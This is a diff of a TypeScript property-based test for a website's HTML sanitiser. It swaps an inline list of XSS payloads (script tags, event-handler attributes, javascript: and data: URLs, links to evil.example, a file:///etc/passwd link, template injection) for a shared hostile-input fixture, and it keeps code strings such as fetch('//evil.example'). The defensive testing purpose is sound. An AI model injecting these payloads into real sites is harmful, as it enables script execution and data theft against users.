@@ -1,6 +1,6 @@
 import fc from "fast-check";
 import { expect, test } from "vitest";
-import { exactly, forEachCase, oneOf, texts, words } from "./fixture/cases.ts";
+import { exactly, forEachCase, hostile, oneOf, words } from "./fixture/cases.ts";
 import * as content from "./fixture/content-lists.ts";
 import { expectSafeMarkup } from "./fixture/expect-markup.ts";
 import { startFixture } from "./fixture/site-fixture.ts";
@@ -53,42 +53,20 @@ test("F5: a record has the wrong shape: it alone is left out", async () => {
   });
 });
 
-const ATTACKS = texts(`<script>CODE</script> ¦ <ScRiPt src=//evil.example/x.js></sCrIpT >
-  </script><script>CODE</script> ¦ <!--<script>CODE</script> ¦ --><img src=x onerror=CODE>
-  <img src=x onerror=CODE> ¦ "><svg onload=CODE> ¦ '><body onpageshow=CODE> ¦ <plaintext>
-  <svg><script>CODE</script></svg> ¦ <svg><a xlink:href='javascript:CODE'><text>a</text></a></svg>
-  <math><mtext><table><mglyph><style><img src=x onerror=CODE> ¦ <textarea> ¦ <title> ¦ <xmp>
-  <noscript><p title='</noscript><img src=x onerror=CODE>'> ¦ <a href='javascript:CODE'>open</a>
-  <a href='jav&#x09;ascript:CODE'>open</a> ¦ <a href=' \u0001javascript:CODE'>open</a>
-  <a href='data:text/html,<script>CODE</script>'>open</a> ¦ <a href='vbscript:CODE'>open</a>
-  <iframe srcdoc='<script>CODE</script>'></iframe> ¦ <object data='data:text/html,CODE'></object>
-  <base href='//evil.example/'> ¦ <meta http-equiv=refresh content='0;url=//evil.example'>
-  <form action='//evil.example'><input name=a> ¦ <style>*{display:none}</style>
-  <p style='position:fixed;inset:0'> ¦ </p></div></main></body></html> ¦ \u202eolleh\u2066
-  </footer></section><table><tr><td> ¦ <div><div><div><ul><li><blockquote> ¦ \u0000<\u0000script>
-  <template><script>CODE</script> ¦ &lt;script&gt;CODE&lt;/script&gt;
-  &#60;script&#62;CODE&#60;/script&#62; ¦ {{constructor.constructor('CODE')()}}
-  <p lang='"><script>CODE</script>'> ¦ <<p>script>CODE<</p>/script>`);
 const CODE = ["alert(1)", "fetch('//evil.example')", "document.body.remove()"];
 const attack = fc
-  .tuple(oneOf(...ATTACKS), oneOf(...CODE))
+  .tuple(hostile("markup"), oneOf(...CODE))
   .map(([text, code]) => text.replace("CODE", code));
 const part = fc.oneof(
   { weight: 4, arbitrary: attack },
   fc.string({ unit: "grapheme", maxLength: 20 }),
   oneOf(...words("<p> </p> <em> </ul> <h2> < > \" ' & `")),
 );
-const hostile = fc.array(part, { minLength: 1, maxLength: 4 }).map((parts) => parts.join(""));
-const hostileLinks = [
-  ...words(`javascript:alert(1) JaVaScRiPt:alert(1) vbscript:msgbox(1) blob:https://evil.example/1
-    file://localhost/etc/passwd //evil.example/a /\\evil.example \u0001javascript:alert(1)`),
-  ...[" javascript:alert(1)", "java\nscript:alert(1)", "data:text/html,<script>alert(1)</script>"],
-  'https://evil.example/"onmouseover=alert(1) a="',
-];
-const link = fc.oneof(hostile, oneOf(...hostileLinks));
+const markup = fc.array(part, { minLength: 1, maxLength: 4 }).map((parts) => parts.join(""));
+const link = fc.oneof(markup, hostile("link"));
 const TEXTS = words("title description venue time name stream breakfast lunch dinner _id");
 const LINKS = words("attachments images image");
-const round = fc.record({ some: exactly(24, hostile), links: exactly(10, link), letter: hostile });
+const round = fc.record({ some: exactly(24, markup), links: exactly(10, link), letter: markup });
 
 test("F7: texts and links with scripts and open tags: shown as text or left out", async () => {
   const { host, site } = await startFixture();
